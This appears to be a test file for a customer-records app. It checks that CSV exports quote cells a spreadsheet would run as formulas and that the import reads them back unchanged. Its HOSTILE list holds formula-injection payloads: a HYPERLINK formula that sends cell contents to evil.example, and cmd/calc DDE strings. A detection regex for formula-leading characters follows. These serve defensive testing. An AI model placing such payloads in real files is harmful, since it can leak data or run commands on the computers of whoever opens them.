import assert from 'node:assert/strict';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { EXPORT_KINDS, exportCsv, planImport, type ImportKind } from '../../../src/domain/csv';
import { neutraliseCell, restoreCell } from '../../../src/domain/csvCells';
import { computeTrends } from '../../../src/domain/trends/compute';
import { TREND_CSV_SECTIONS, trendsToCsv } from '../../../src/domain/trends/render';
import { emptyFile, type LoyalFile } from '../../../src/domain/records';
import { LoyalStore } from '../../../src/store/store';
import { BookBuilder } from '../support/builders';

// What a customer, a teammate or an imported file can put in a cell that a spreadsheet runs.
export const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!E2",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  "'=already quoted once",
];

/** A spreadsheet runs a cell as a formula when its text starts with one of these. */
const RUNS_AS_FORMULA = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

function cellsOf(csv: string): string[] {
  return (parse(csv, { bom: true, relax_column_count: true }) as string[][]).flat();
}

function hostileBook(): LoyalFile {
  const b = new BookBuilder();
  const customers = HOSTILE.slice(0, 6).map((evil, n) =>
    b.customer({ externalId: `K${n}`, name: evil, company: evil, phone: '+39 02 1234 5678', address: `${evil}\nMilano`, tags: [evil.trim() || 'x'], owner: evil, source: evil }),
  );
  for (const [n, c] of customers.entries()) {
    b.purchase(c.id, '2026-01-05', { amount: n % 2 ? '-12.50' : '30.00', note: HOSTILE[(n + 2) % HOSTILE.length] });
    b.incident(c.id, '2026-01-06T10:00:00+01:00', { summary: HOSTILE[(n + 1) % HOSTILE.length], component: `@comp${n}`, staff: `=staff${n}`, tags: [`-tag${n}`, `+${n}`] });
    b.followUp(c.id, '2026-01-09', { assignee: `=ann${n}`, status: 'done', outcome: { satisfied: true, comment: HOSTILE[n] }, doneBy: '@bob', doneAt: '2026-01-09T10:00:00+01:00' });
  }
  return b.build();
}

describe('CSV cells safe to open in a spreadsheet', () => {
  it('quotes a cell a spreadsheet would run, and only such a cell', () => {
    assert.equal(neutraliseCell('=HYPERLINK("x")'), '\'=HYPERLINK("x")');
    for (const start of ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠']) assert.equal(neutraliseCell(`${start}x`), `'${start}x`, JSON.stringify(start));
    assert.equal(neutraliseCell('\nline'), "'\nline", 'a line feed first, like a carriage return (the import reads CR as LF)');
    for (const plain of ['Ada Lovelace', "O'Brien", "'quoted'", ' =1 (a space first)', '2026-01-05', '-12.50', '-3', '129.90', '', 'a=b']) assert.equal(neutraliseCell(plain), plain, plain);
    assert.equal(neutraliseCell("'=1"), "''=1", 'a quote already there gets another, so restoring is exact');
    assert.equal(neutraliseCell('-1+2'), "'-1+2", 'a sum is not a plain number');
  });

  it('restores exactly what it was given, whatever the text (random cells)', () => {
    const alphabet = ["'", '=', '+', '-', '@', '\t', '\r', '\n', '＝', 'a', '1', '.', ' ', '"'];
    let seed = 7;
    const random = (): number => (seed = (seed * 1103515245 + 12345) % 2 ** 31) / 2 ** 31;
    for (let n = 0; n < 5000; n++) {
      const text = Array.from({ length: 1 + Math.floor(random() * 6) }, () => alphabet[Math.floor(random() * alphabet.length)]).join('');
      const safe = neutraliseCell(text);
      assert.equal(restoreCell(safe), text, JSON.stringify(text));
      assert.ok(!RUNS_AS_FORMULA.test(safe) || /^-?\d+(\.\d+)?$/.test(safe), `${JSON.stringify(safe)} would run`);
    }
  });

  it('writes no cell a spreadsheet would run in any export of the records', () => {
    const book = hostileBook();
    for (const kind of EXPORT_KINDS) {
      const csv = exportCsv(kind, book);
      const cells = cellsOf(csv);
      const running = cells.filter((cell) => RUNS_AS_FORMULA.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell));
      assert.deepEqual(running, [], `${kind}: cells that would run`);
      assert.ok(
        cells.some((cell) => cell.startsWith("'")),
        `${kind} has neutralised cells`,
      );
    }
    const customers = exportCsv('customers', book);
    assert.ok(customers.includes('"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"'), 'quoted, with its inner quotes doubled');
    assert.ok(exportCsv('purchases', book).includes(',-12.50,'), 'a refund stays a number');
  });

  it('writes no cell a spreadsheet would run in any table of the trend review', () => {
    const book = hostileBook();
    const report = computeTrends(book, { asOf: '2026-02-01', bucket: 'week' });
    for (const section of TREND_CSV_SECTIONS) {
      const running = cellsOf(trendsToCsv(report, section)).filter((cell) => RUNS_AS_FORMULA.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell));
      assert.deepEqual(running, [], `${section}: cells that would run`);
    }
    assert.match(trendsToCsv(report, 'byComponent'), /'@comp0/);
  });

  describe('import reads an export back unchanged', () => {
    let folder: string;
    let store: LoyalStore | undefined;
    before(async () => {
      folder = await mkdtemp(join(tmpdir(), 'loyal-csv-cells-'));
    });
    after(async () => {
      store?.dispose();
      await rm(folder, { recursive: true, force: true });
    });

    it('gives back every hostile name, address, tag, note, summary, staff member and component', async () => {
      const book = hostileBook();
      store = await LoyalStore.open(join(folder, 'loyal.json'), { user: () => 'importer', backups: 0 });
      await store.create(emptyFile());
      for (const kind of ['customers', 'purchases', 'incidents'] as ImportKind[]) {
        const plan = planImport(kind, exportCsv(kind, book), store.file);
        assert.deepEqual(plan.errors, [], kind);
        await store.update((tx) => plan.apply!(tx));
      }
      const pick = (file: LoyalFile) => ({
        customers: file.customers.map((c) => [c.externalId, c.name, c.company, c.phone, c.address, c.tags, c.owner, c.source]).sort(),
        purchases: file.purchases.map((p) => [p.amount, p.note]).sort(),
        incidents: file.incidents.map((i) => [i.summary, i.component, i.staff, i.tags]).sort(),
      });
      // The import trims one-line fields (a leading tab or CR is not part of a name or a
      // company) and reads a carriage return as a line end, as in any cell; the quotes
      // added by the export always come off.
      const asImported =
        (trimmed: number[]) =>
        <T>(row: T[]): T[] =>
          row.map((v, n) => (typeof v !== 'string' ? v : ((trimmed.includes(n) ? v.trim() : v).replace(/\r/g, '\n') as T)));
      const expected = pick(book);
      expected.customers = expected.customers.map(asImported([1, 2, 3, 6, 7])).sort();
      expected.purchases = expected.purchases.map(asImported([])).sort();
      expected.incidents = expected.incidents.map(asImported([1, 2])).sort();
      assert.ok(JSON.stringify(pick(store.file)).includes("'=already quoted once"), 'a quote that was in the text stays');
      assert.deepEqual(pick(store.file), expected);
    });
  });
});
